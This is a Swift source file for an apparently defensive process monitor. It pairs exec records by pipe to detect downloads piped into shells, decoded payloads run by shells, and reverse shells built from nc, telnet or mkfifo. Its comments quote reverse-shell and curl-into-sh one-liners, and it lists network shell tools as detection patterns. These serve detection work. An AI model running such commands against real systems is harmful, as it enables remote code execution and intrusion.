/// Shell pipelines that run code from outside, seen from the pipes the kernel reports at each
/// exec (`stdin_pipe` / `stdout_pipe` of the exec record). Either end may exec first; an end
/// waits at most `window` for the other.
/// - A download piped into a shell or interpreter (`curl -s URL | sh`, `wget -qO- URL | bash`).
/// - A decoder piped into one (`echo ... | base64 -d | bash`): code hidden from the command line.
/// - Reverse shells whose shell never holds a socket itself: a network tool's output piped
///   into a shell (`nc HOST PORT | sh`, `telnet HOST P1 | sh | telnet HOST P2`), and a shell fed
///   by a pipe writing into a network tool (`mkfifo f; cat f | sh -i 2>&1 | nc HOST PORT > f`).
public struct PipelineDetector: Sendable {
    public static let downloaders: Set<String> = [
        "curl", "wget", "wget2", "fetch", "aria2c", "axel", "tftp", "ftp", "lwp-download", "lwp-request", "GET",
    ]
    /// Programs that decode, decompress or decrypt: their output piped into a shell runs code
    /// that was hidden from the command line.
    public static let decoders: Set<String> = [
        "base64", "base32", "basenc", "xxd", "uudecode", "openssl", "gpg", "gzip", "gunzip", "zcat", "bzip2", "bunzip2", "bzcat",
        "xz", "unxz", "xzcat", "zstd", "unzstd", "zstdcat", "lz4", "rev",
    ]
    /// Programs that carry a pipe over a raw connection: piped into a shell, or a piped shell's
    /// output piped into one, they drive the shell from elsewhere.
    public static let networkTools: Set<String> = [
        "nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "socat", "telnet", "telnet.netkit", "inetutils-telnet", "openssl", "cryptcat", "pwncat",
    ]

    /// What a pipeline is.
    public enum Kind: Sendable, Equatable {
        /// a download tool's output into a shell
        case download
        /// a decoder's output into a shell
        case decoder
        /// a network tool's output into a shell or interpreter
        case networkToShell
        /// a piped shell's output into a network tool
        case shellToNetwork
    }
    public static let shells: Set<String> = [
        "sh", "bash", "dash", "zsh", "ksh", "ksh93", "mksh", "csh", "tcsh", "fish",
        "python", "python2", "python3", "perl", "ruby", "php", "node", "lua",
    ]

    /// A detected pipeline: the writing end (`source`), the shell, the pipe between them. For
    /// `.shellToNetwork` the source is the network tool the shell writes into.
    public struct Match: Sendable, Equatable {
        public var source: ProcessEntry
        public var shell: ProcessEntry
        public var pipe: UInt64
        public var kind: Kind
    }

    struct End: Sendable {
        var process: ProcessEntry
        var timeNs: UInt64
    }

    /// Shells proper (a reverse shell is one of these started with a socket on stdin or stdout).
    public static let shellsOnly: Set<String> = ["sh", "bash", "dash", "zsh", "ksh", "ksh93", "mksh", "csh", "tcsh", "fish", "ash"]

    /// Programs whose standard input or output is a client's connection by design, and which
    /// start shells for it: a login over ssh (sshd started by socket activation or `sshd -i`),
    /// telnetd, inetd-style launchers. Full paths: a copy named sshd elsewhere is not one.
    public static let loginServices: Set<String> = [
        "/usr/sbin/sshd", "/usr/lib/openssh/sshd-session", "/usr/sbin/dropbear", "/usr/sbin/in.telnetd", "/usr/sbin/telnetd",
        "/usr/sbin/inetd", "/usr/sbin/xinetd",
    ]

    /// How a shell's start shows it is driven over a connection, if it does.
    public enum ReverseShellSign: Sendable, Equatable {
        /// its stdin or stdout is a socket: `nc -e /bin/sh`, the shell `bash -i >& /dev/tcp/...` starts
        case stdioSocket
        /// its parent's is, or it is on a pty and its parent holds a network connection: the
        /// shell on a pty that python's `pty.spawn`, `script` or socat's pty start for a
        /// connection they hold
        case parentStdioSocket
    }

    public static func reverseShellSign(_ p: ProcessEntry, stdioSocket: Bool, parentStdioSocket: Bool, parent: ProcessEntry?) -> ReverseShellSign? {
        guard shellsOnly.contains(String(base(p.binary))) else { return nil }
        if stdioSocket { return .stdioSocket }
        if parentStdioSocket, let parent, !loginServices.contains(parent.binary) { return .parentStdioSocket }
        return nil
    }

    public var window: UInt64 = 10_000_000_000
    /// Waiting ends by pipe (bounded: the oldest half is dropped when full).
    private var writers: [UInt64: End] = [:]
    private var readers: [UInt64: End] = [:]
    /// piped shells waiting for the network tool reading their output, and the reverse
    private var shellWriters: [UInt64: End] = [:]
    private var networkReaders: [UInt64: End] = [:]
    static let capacity = 4096

    public init() {}

    static func base(_ path: String) -> Substring {
        // python3.11 counts as python3, bash5 as bash
        var name = path.split(separator: "/").last ?? Substring(path)
        if let dot = name.firstIndex(of: "."), name[..<dot].hasPrefix("python") { name = name[..<dot] }
        return name
    }

    /// Whether two execs are within `window` of each other, in either order: the ends of a
    /// pipeline exec at the same moment on different CPUs, and the ring buffer can hand over
    /// the later one's record first (a one-sided difference wrapped and lost the join).
    private func near(_ a: UInt64, _ b: UInt64) -> Bool { (a > b ? a - b : b - a) <= window }

    /// Looks at one exec; returns the pipeline it completes, if any.
    public mutating func observe(_ p: ProcessEntry, stdinPipe: UInt64, stdoutPipe: UInt64, timeNs: UInt64) -> Match? {
        let name = String(Self.base(p.binary))
        if stdoutPipe != 0, let kind = Self.sourceKind(name) {
            if let r = readers.removeValue(forKey: stdoutPipe), near(timeNs, r.timeNs) {
                return Match(source: p, shell: r.process, pipe: stdoutPipe, kind: kind)
            }
            Self.insert(&writers, stdoutPipe, End(process: p, timeNs: timeNs))
        }
        if stdinPipe != 0, Self.shells.contains(name) {
            if let w = writers.removeValue(forKey: stdinPipe), near(timeNs, w.timeNs),
                let kind = Self.sourceKind(String(Self.base(w.process.binary)))
            {
                return Match(source: w.process, shell: p, pipe: stdinPipe, kind: kind)
            }
            Self.insert(&readers, stdinPipe, End(process: p, timeNs: timeNs))
        }
        // `cat f | sh -i | nc HOST PORT > f`: a shell whose input is a pipe writes into a network
        // tool (`report.sh | nc` from a terminal or cron has no pipe on its input)
        if stdinPipe != 0, stdoutPipe != 0, Self.shellsOnly.contains(name) {
            if let r = networkReaders.removeValue(forKey: stdoutPipe), near(timeNs, r.timeNs) {
                return Match(source: r.process, shell: p, pipe: stdoutPipe, kind: .shellToNetwork)
            }
            Self.insert(&shellWriters, stdoutPipe, End(process: p, timeNs: timeNs))
        }
        if stdinPipe != 0, Self.networkTools.contains(name) {
            if let w = shellWriters.removeValue(forKey: stdinPipe), near(timeNs, w.timeNs) {
                return Match(source: p, shell: w.process, pipe: stdinPipe, kind: .shellToNetwork)
            }
            Self.insert(&networkReaders, stdinPipe, End(process: p, timeNs: timeNs))
        }
        return nil
    }

    /// What a program's output piped into a shell makes of the pipeline (openssl decodes more
    /// often than it connects: `openssl base64 -d | sh`).
    static func sourceKind(_ name: String) -> Kind? {
        if decoders.contains(name) { return .decoder }
        if downloaders.contains(name) { return .download }
        if networkTools.contains(name) { return .networkToShell }
        return nil
    }

    private static func insert(_ table: inout [UInt64: End], _ pipe: UInt64, _ end: End) {
        if table.count >= capacity {
            let cut = table.values.map(\.timeNs).sorted()[capacity / 2]
            table = table.filter { $0.value.timeNs >= cut }
        }
        table[pipe] = end
    }
}
